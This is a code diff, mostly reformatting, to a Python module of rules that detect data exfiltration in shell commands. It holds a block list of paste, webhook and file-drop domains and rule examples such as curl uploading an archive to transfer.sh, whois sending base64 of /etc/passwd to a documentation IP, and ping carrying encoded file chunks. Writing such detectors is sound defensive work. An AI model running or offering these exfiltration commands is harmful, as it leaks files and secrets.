@@ -5,20 +5,29 @@ from urllib.parse import urlsplit
 
 from apps.detection.argv import getopt
 from apps.detection.argv.invocation import Invocation
+from apps.detection.argv.names import names
 from apps.detection.rules.base import Detail, Rule
 from apps.detection.rules.common import asks_for_help, is_address, is_internal
 
-_DROPS = ("pastebin.com", "paste.rs", "hastebin", "ix.io", "termbin.com", "transfer.sh", "file.io", "0x0.st", "temp.sh", "dpaste", "paste.ee", "rentry.co",
-          "discordapp.com/api/webhooks", "discord.com/api/webhooks", "api.telegram.org/bot", "hooks.slack.com", "gofile.io", "anonfiles", "catbox.moe",
-          "bashupload.com", "oshi.at", "sprunge.us", "clbin.com", "webhook.site", "requestbin", "pipedream.net", "ngrok", "trycloudflare.com", "loca.lt",
-          "serveo.net", "interact.sh", "oast.", "burpcollaborator", "keep.sh", "wetransfer", "tmpfiles.org", "uguu.se", "litterbox", "filebin.net",
-          "send.vis.ee", "bayfiles", "mega.nz", "mega.co.nz", "ufile.io", "sendspace", "api.anonfile", "dnslog", "canarytokens", "beeceptor",
-          ".onion", "pixeldrain", "workers.dev", "paste.c-net.org", "p.ip.fi", "graph.org")  # fmt: skip
-_VALUED = frozenset("--" + name for name in ("data data-raw data-binary data-ascii data-urlencode form form-string upload-file header request output user url"
-                    " json unix-socket max-time connect-timeout user-agent referer cookie proxy cacert cert key config").split())  # fmt: skip
-_BODY = ("d", "F", "T", "--data", "--data-raw", "--data-binary", "--data-ascii", "--data-urlencode", "--form", "--upload-file", "--json")
+_DROPS = (
+    "pastebin.com", "paste.rs", "hastebin", "ix.io", "termbin.com", "transfer.sh", "file.io", "0x0.st",
+    "temp.sh", "dpaste", "paste.ee", "rentry.co", "discordapp.com/api/webhooks", "discord.com/api/webhooks",
+    "api.telegram.org/bot", "hooks.slack.com", "gofile.io", "anonfiles", "catbox.moe", "bashupload.com",
+    "oshi.at", "sprunge.us", "clbin.com", "webhook.site", "requestbin", "pipedream.net", "ngrok",
+    "trycloudflare.com", "loca.lt", "serveo.net", "interact.sh", "oast.", "burpcollaborator", "keep.sh",
+    "wetransfer", "tmpfiles.org", "uguu.se", "litterbox", "filebin.net", "send.vis.ee", "bayfiles",
+    "mega.nz", "mega.co.nz", "ufile.io", "sendspace", "api.anonfile", "dnslog", "canarytokens", "beeceptor",
+    ".onion", "pixeldrain", "workers.dev", "paste.c-net.org", "p.ip.fi", "graph.org",
+)  # fmt: skip
+_VALUED = frozenset("--" + name for name in ["data", "data-raw", "data-binary", "data-ascii", "data-urlencode", "form", "form-string", "upload-file", "header", "request", "output", "user", "url", "json", "unix-socket", "max-time", "connect-timeout", "user-agent", "referer", "cookie", "proxy", "cacert", "cert", "key", "config"])  # fmt: skip
+_BODY = (
+    "d", "F", "T", "--data", "--data-raw", "--data-binary", "--data-ascii", "--data-urlencode", "--form",
+    "--upload-file", "--json",
+)  # fmt: skip
 _DOMAIN = re.compile(r"\.[a-z0-9][a-z0-9.-]{2,80}$")
-_ENCODES = re.compile(r"base64|base32|xxd|whoami|hexdump|\b(?:od|cat|head|cut|uname|id|hostname)\b[^$]{0,200}[)`]")
+_ENCODES = re.compile(
+    r"base64|base32|xxd|whoami|hexdump|\b(?:od|cat|head|cut|uname|id|hostname)\b[^$]{0,200}[)`]"
+)
 
 
 def _host(url: str) -> str:
@@ -44,7 +53,9 @@ def _curl(invocation: Invocation) -> Detail | None:
     url = next((word for word in (*options.values("--url"), *options.rest)), "")
     host = _host(url)
     drop = next((place for place in _DROPS if place in url.lower()), "")
-    from_file = any("@" in body[:64] or name in ("T", "--upload-file") for name, body in options.given if name in _BODY)
+    from_file = any(
+        "@" in body[:64] or name in ("T", "--upload-file") for name, body in options.given if name in _BODY
+    )
     bare = is_address(host.partition(":")[0]) and not is_internal(host.partition(":")[0])
     if drop or (bare and from_file):
         return {"url": url, "sends": bodies[0]}
@@ -52,7 +63,9 @@ def _curl(invocation: Invocation) -> Detail | None:
 
 
 def _wget(invocation: Invocation) -> Detail | None:
-    options = getopt(invocation.args, "", frozenset({"--post-file", "--body-file", "--post-data", "--header", "--method"}))
+    options = getopt(
+        invocation.args, "", frozenset({"--post-file", "--body-file", "--post-data", "--header", "--method"})
+    )
     file = options.value("--post-file", "--body-file")
     url = next(iter(options.rest), "")
     host = _host(url)
@@ -65,22 +78,48 @@ def _netcat(invocation: Invocation) -> Detail | None:
     options = getopt(invocation.args, "c:e:i:I:o:O:p:P:q:s:T:w:x:X:g:G:m:d:")
     if options.has("l", "--listen", "z") or len(options.rest) < 2:
         return None
-    file = next((r.target for r in invocation.redirects if r.op == "<" and r.fd in ("", "0") and r.target != "/dev/null"), "")
-    return {"remote": ":".join(options.rest[:2]), "sends": file} if file and not file.startswith(("/dev/tcp", "$(", "<(")) else None
+    file = next(
+        (
+            r.target
+            for r in invocation.redirects
+            if r.op == "<" and r.fd in ("", "0") and r.target != "/dev/null"
+        ),
+        "",
+    )
+    return (
+        {"remote": ":".join(options.rest[:2]), "sends": file}
+        if file and not file.startswith(("/dev/tcp", "$(", "<("))
+        else None
+    )
 
 
 def _device(invocation: Invocation) -> Detail | None:
     """A file sent through /dev/tcp."""
-    target = next((r.target for r in invocation.redirects if r.target.startswith(("/dev/tcp/", "/dev/udp/")) and r.op in (">", ">>")), "")
+    target = next(
+        (
+            r.target
+            for r in invocation.redirects
+            if r.target.startswith(("/dev/tcp/", "/dev/udp/")) and r.op in (">", ">>")
+        ),
+        "",
+    )
     operands = [word for word in invocation.args if word[:1] != "-"]
-    sends = invocation.program in ("cat", "tar", "base64", "xxd", "gzip", "dd", "cp", "head", "tail") and operands
+    sends = (
+        invocation.program in ("cat", "tar", "base64", "xxd", "gzip", "dd", "cp", "head", "tail") and operands
+    )
     host = target[9:].partition("/")[0]
-    return {"remote": target[9:].replace("/", ":"), "sends": operands[0]} if sends and not host.startswith(("127.", "localhost")) and target else None
+    return (
+        {"remote": target[9:].replace("/", ":"), "sends": operands[0]}
+        if sends and not host.startswith(("127.", "localhost")) and target
+        else None
+    )
 
 
 def _dns(invocation: Invocation) -> Detail | None:
     for word in invocation.args:
-        made = word[:1] not in "-@+" and ("$(" in word or "`" in word) and _DOMAIN.match(word.rpartition(")")[2])
+        made = (
+            word[:1] not in "-@+" and ("$(" in word or "`" in word) and _DOMAIN.match(word.rpartition(")")[2])
+        )
         if made and _ENCODES.search(word):
             return {"program": invocation.program, "name": word}
     return None
@@ -91,7 +130,11 @@ def _odd_carrier(invocation: Invocation) -> Detail | None:
     args = invocation.args
     if invocation.program == "whois":
         options = getopt(args, "h:p:", frozenset({"--host", "--port"}))
-        return {"remote": ":".join(options.values("h", "--host", "p", "--port"))} if options.has("h", "--host") and options.has("p", "--port") else None
+        return (
+            {"remote": ":".join(options.values("h", "--host", "p", "--port"))}
+            if options.has("h", "--host") and options.has("p", "--port")
+            else None
+        )
     pattern = getopt(args, "c:i:w:W:p:s:t:I:M:m:Q:l:").value("p")
     return {"payload": pattern, "host": args[-1]} if "$" in pattern else None
 
@@ -100,7 +143,11 @@ def _sender(invocation: Invocation) -> Detail | None:
     words = [word for word in invocation.args if word[:1] != "-"]
     if asks_for_help(invocation.args) or not words:
         return None
-    return {"program": invocation.program, "sends": words[-1]} if words[0] in ("send", "upload", "share", "put", "up") or invocation.program == "transfer" else None
+    return (
+        {"program": invocation.program, "sends": words[-1]}
+        if words[0] in ("send", "upload", "share", "put", "up") or invocation.program == "transfer"
+        else None
+    )
 
 
 CURL = Rule(
@@ -111,7 +158,9 @@ CURL = Rule(
     level="high",
     technique="T1567",
     title="Data sent to a drop place",
-    description="curl sends data to a paste, file drop or webhook anyone can own, or a file to a bare public address.",
+    description=(
+        "curl sends data to a paste, file drop or webhook anyone can own, or a file to a bare public address."
+    ),
     false_positives="Chat notifications of a job.",
     examples=("curl -F file=@/tmp/x.tgz https://transfer.sh/", "curl -T w.bin http://8.8.4.4/u"),
     match=_curl,
@@ -184,12 +233,17 @@ CARRIER = Rule(
     level="medium",
     technique="T1048.003",
     title="Data carried by a protocol nobody filters",
-    description="whois is sent to a host and port of one's own, or ping carries a payload from a variable.",
+    description=(
+        "whois is sent to a host and port of one's own, or ping carries a payload from a variable."
+    ),
     false_positives="A private whois server.",
-    examples=("whois -h 203.0.113.9 -p 43 \"$(base64 /etc/passwd)\"", "xxd -p -c 16 f | while read l; do ping -c1 -p $l 203.0.113.9; done"),
+    examples=(
+        'whois -h 203.0.113.9 -p 43 "$(base64 /etc/passwd)"',
+        "xxd -p -c 16 f | while read l; do ping -c1 -p $l 203.0.113.9; done",
+    ),
     match=_odd_carrier,
-    programs=frozenset({"whois", "ping"}),
-)
+    programs=frozenset({'whois', 'ping'}),
+)  # fmt: skip
 SENDER = Rule(
     slug="file-sender",
     version=1,
@@ -198,10 +252,15 @@ SENDER = Rule(
     level="medium",
     technique="T1567",
     title="File-sending tool started",
-    description="A tool that hands files to whoever knows a word or link (croc, wormhole, ffsend, ...).",
+    description=("A tool that hands files to whoever knows a word or link (croc, wormhole, ffsend, ...)."),
     false_positives="A person sharing a file.",
     examples=("croc send weights.bin", "wormhole send ckpt.tar"),
     match=_sender,
-    programs=frozenset({"croc", "wormhole", "magic-wormhole", "ffsend", "transfer", "onionshare", "onionshare-cli", "filebrowser-send", "megatools", "sendme"}),
+    programs=names(
+        """
+        croc wormhole magic-wormhole ffsend transfer onionshare onionshare-cli filebrowser-send megatools
+        sendme
+        """
+    ),
 )
 RULES = (CURL, WGET, NETCAT, DEVICE, DNS, CARRIER, SENDER)
